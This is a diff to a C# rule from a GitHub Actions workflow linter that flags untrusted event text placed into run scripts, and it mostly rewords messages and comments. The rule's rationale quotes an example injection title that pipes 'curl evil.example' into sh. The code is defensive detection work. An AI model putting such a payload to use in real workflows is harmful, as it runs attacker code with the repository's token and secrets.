@@ -3,7 +3,7 @@ using Seaworthy.Model.Declared.Workflows;
 
 namespace Seaworthy.Rules.Pipelines;
 
-/// <summary>Text that anybody may write is put into a script before the shell reads it.</summary>
+/// <summary>Text from outsiders is inserted into a script before the shell reads it.</summary>
 internal sealed class UntrustedInputInScript : Rule<UntrustedInputInScript.Script>
 {
     private const int MostPlaces = 5;
@@ -12,12 +12,12 @@ internal sealed class UntrustedInputInScript : Rule<UntrustedInputInScript.Scrip
         new()
         {
             Id = "pipelines/untrusted-input-in-script",
-            Title = "Text of strangers in a script",
+            Title = "Script injection from untrusted input",
             Area = Area.Security,
             Severity = Severity.High,
             Rationale =
-                "GitHub puts the text into the script before the shell reads it. A title such as `\"; curl evil.example | sh; \"` runs on the runner, with its token and secrets.",
-            Holds = "No script holds text that strangers write.",
+                "GitHub inserts the text before the shell reads the script. A title such as `\"; curl evil.example | sh; \"` runs on the runner, with its token and secrets.",
+            Holds = "No script contains text from outsiders.",
         };
 
     private static readonly string[] Strangers =
@@ -36,7 +36,7 @@ internal sealed class UntrustedInputInScript : Rule<UntrustedInputInScript.Scrip
         "github.head_ref",
     ];
 
-    // By what a reference begins with: the events that carry it, which strangers start with the secrets of the repository.
+    // By the start of a reference: its events, which outsiders can start with the secrets of the repository.
     private static readonly OpenReference[] OpenEvents =
     [
         new("github.event.issue.", ["issues", "issue_comment"]),
@@ -65,7 +65,7 @@ internal sealed class UntrustedInputInScript : Rule<UntrustedInputInScript.Scrip
             yield break;
         }
 
-        var message = $"{subject.Name} puts {found} into a script: whoever writes that text runs commands on the runner.";
+        var message = $"{subject.Name} inserts `{found}` into a script: the author of that text can run commands on the runner.";
         var open = OpenEvents
             .Where(carried => found.ToString().StartsWith(carried.Start, StringComparison.OrdinalIgnoreCase))
             .SelectMany(carried => subject.Workflow.Triggers.Where(trigger => carried.Events.Contains(trigger.Event)))
@@ -73,11 +73,11 @@ internal sealed class UntrustedInputInScript : Rule<UntrustedInputInScript.Scrip
         // With pull_request a stranger's run has no secrets; the other events run with those of the repository.
         yield return (open is not null ? Fail(found.Span, message) : Warn(found.Span, message).As(Severity.Medium))
             .Related(open?.Span)
-            .Remedy($"Give the text to the step by `env:` and write `\"$NAME\"` in {found.Span}{CarriedOn(subject)}.")
+            .Remedy($"Pass the text to the step through `env:` and write `\"$NAME\"` in {found.Span}{CarriedOn(subject)}.")
             .VerifyGone();
     }
 
-    /// <summary>What the step hands on may hold the text as well: put into another script, it runs there.</summary>
+    /// <summary>Outputs of the step may contain the text as well: inserted into another script, it runs there.</summary>
     private static string CarriedOn(UntrustedInputInScript.Script subject) =>
         subject.Step.Id is { } id
         && subject
@@ -87,7 +87,7 @@ internal sealed class UntrustedInputInScript : Rule<UntrustedInputInScript.Scrip
             .Distinct()
             .ToList()
             is { Count: > 0 } places
-            ? $", and do the same in {NameList.Of(places, MostPlaces)}: the outputs of step {id.Value} may carry the text on"
+            ? $", and do the same in {NameList.Of(places, MostPlaces)}: the outputs of step {id.Value} may contain the text"
             : "";
 
     /// <summary>A step that runs a script.</summary>
